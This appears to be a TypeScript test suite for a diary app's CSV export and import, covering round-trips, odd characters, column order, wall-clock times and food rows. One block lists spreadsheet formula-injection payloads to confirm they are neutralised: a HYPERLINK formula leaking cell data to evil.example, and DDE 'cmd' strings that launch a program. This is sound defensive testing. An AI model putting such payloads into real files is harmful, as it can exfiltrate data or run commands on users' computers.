import fc from 'fast-check'
import Papa from 'papaparse'
import { describe, expect, test } from 'vitest'
import { localTime, type Entry } from '@charley/core'
// The generator of drafts is the core's own; only tests reach behind its door.
import { drafts, entry, moments, zones } from '../../../core/diary/diary.fixture.js'
import { entryColumns, foodColumns } from './columns.js'
import { wallClock } from './local-time.js'
import { isOurTable, readEntriesCsv } from './read.js'
import { asWritten, cellOf, lineOf } from './text.js'
import { entryHeading, entryLines, foodHeading, foodLines } from './write.js'

/** As the store gives it back: through JSON, so that -0 is 0. */
const kept = (draft: object): Entry =>
  JSON.parse(JSON.stringify({ ...draft, person: 'me', recorded: '2026-11-23T06:00:00.123Z' })) as Entry
const entries = fc.array(drafts.map(kept), { maxLength: 12 })

test('what goes out as CSV reads back to equal entries, whatever stands in them', () => {
  fc.assert(
    fc.property(entries, (some) => {
      expect(readEntriesCsv(entryHeading + entryLines(some), 'me')).toEqual(some)
    }),
    { numRuns: 150 },
  )
})

const nasty = fc
  .tuple(
    fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', "'", '＝', '', '"', ' ', ',', ';', '\ufeff'),
    fc.string({ unit: 'binary', maxLength: 20 }),
  )
  .map((parts) => parts.join(''))

test('text of any kind reads back letter for letter, half surrogate pairs too', () => {
  fc.assert(
    fc.property(nasty, nasty, (text, name) => {
      const some = [
        entry('note', '2026-11-23T02:10:00Z', { text }),
        entry('lab', '2026-11-23T02:10:00Z', { name, value: text, unit: 'x', remarks: [] }),
        entry('answer', '2026-11-23T02:10:00Z', { fact: 'x', value: name || 'true' }),
      ].filter(({ payload }) => Object.values(payload as object).every((one) => one !== ''))
      expect(readEntriesCsv(entryHeading + entryLines(some), 'me')).toEqual(some)
    }),
    { numRuns: 250 },
  )
})

test('no character of a table makes a reader stop before its end; what it stood for is in the JSON beside it', () => {
  const name = 'before\u0000\u001a\ud800after'
  const some = [entry('food', '2026-11-23T12:30:00Z', { name, amounts: {} })]
  const [all, foods] = [entryHeading + entryLines(some), foodHeading + foodLines(some)]
  for (const text of [all, foods]) {
    expect(text).toMatch(/^[\P{Cc}\r\n]*$/u)
    expect(text).toContain('before\ufffd\ufffd\ufffdafter')
  }
  expect(readEntriesCsv(all, 'me')).toEqual(some)
})

describe('a spreadsheet reckons nothing of it', () => {
  const cells = (text: string) => Papa.parse<string[]>(text).data[0]!
  test.each([
    '=1+1',
    '=HYPERLINK("http://evil.example?x="&A1,"click")',
    '+1+1',
    '-1+1',
    '@SUM(A1)',
    '\t=1+1',
    '\r=1+1',
    '＝1+1',
    "=cmd|' /C calc'!A0",
    '-2+3+cmd|calc',
  ])('%j', (text) => {
    const [cell] = cells(lineOf([cellOf(text)]))
    expect(cell).toBe(`'${text}`)
    expect(asWritten(cell!)).toBe(text)
  })

  test('negative numbers stay numbers, also those that stand in text', () => {
    expect([-1.5, -0.000_000_1, '-1.5', '+3', '-2e-7', '-.5'].map(cellOf)).toEqual([
      '-1.5',
      '-1e-7',
      '-1.5',
      '+3',
      '-2e-7',
      '-.5',
    ])
  })

  test('no cell of any row begins like a formula, unless it is a plain number', () => {
    fc.assert(
      fc.property(entries, (some) => {
        const rows = Papa.parse<string[]>(entryLines(some), { skipEmptyLines: true, newline: '\r\n' }).data
        for (const cell of rows.flat()) if (/^[=+\-@\t\r]/.test(cell)) expect(Number.isFinite(Number(cell)), cell).toBe(true)
      }),
      { numRuns: 100 },
    )
  })
})

test('the columns that were there keep their places, for good', () => {
  const until = entryColumns.indexOf('fluid_limit_ml_per_day')
  // Counted on 23 November 2026; a new column goes behind all of them.
  expect(until).toBe(81)
  expect(entryColumns.slice(0, 9).join()).toBe('id,kind,at_utc,local_date,local_time,zone,recorded_utc,name,meal')
  expect(new Set(foodColumns).size).toBe(foodColumns.length)
  expect(isOurTable(entryColumns)).toBe(true)
  expect(isOurTable(foodColumns)).toBe(false)
})

test('the wall clock says what the core says', () => {
  fc.assert(
    fc.property(moments, zones, (at, zone) => {
      const { date, hour } = localTime(at, zone)
      const minutes = Math.floor(hour * 60 + 1e-6)
      const two = (number: number) => String(number).padStart(2, '0')
      expect(wallClock(at, zone)).toEqual({ date, time: `${two(Math.floor(minutes / 60))}:${two(minutes % 60)}` })
    }),
    { numRuns: 250 },
  )
})

test('one row a food, with what is unknown left blank and what is nought left nought', () => {
  const eaten = entry('food', '2026-11-23T12:30:00Z', {
    name: 'Half known',
    amounts: { magnesiumMg: { value: 0, kind: 'label' }, potassiumMg: { value: 12.5, kind: 'analysed' } },
  })
  const text = foodHeading + foodLines([eaten, entry('note', '2026-11-23T02:10:00Z', { text: 'x' })])
  const { data } = Papa.parse<Record<string, string>>(text, { header: true, skipEmptyLines: true })
  expect(data).toHaveLength(1)
  expect(data[0]).toMatchObject({
    local_date: '2026-11-23',
    local_time: '12:30',
    name: 'Half known',
    magnesium_mg: '0',
    potassium_mg: '12.5',
    sodium_mg: '',
    amount_kinds: 'label=magnesium_mg;analysed=potassium_mg',
  })
})

test('a table of before kinds were told, saved by a spreadsheet with other line ends and a mark in front, is still read', () => {
  const some = [entry('cramp', '2026-11-23T02:10:00Z', { side: 'left', severity: 6, note: 'two\nlines' })]
  const text = `\ufeff${(entryHeading + entryLines(some)).replaceAll('\r\n', '\n')}`
  expect(readEntriesCsv(text, 'me')).toEqual(some)
})
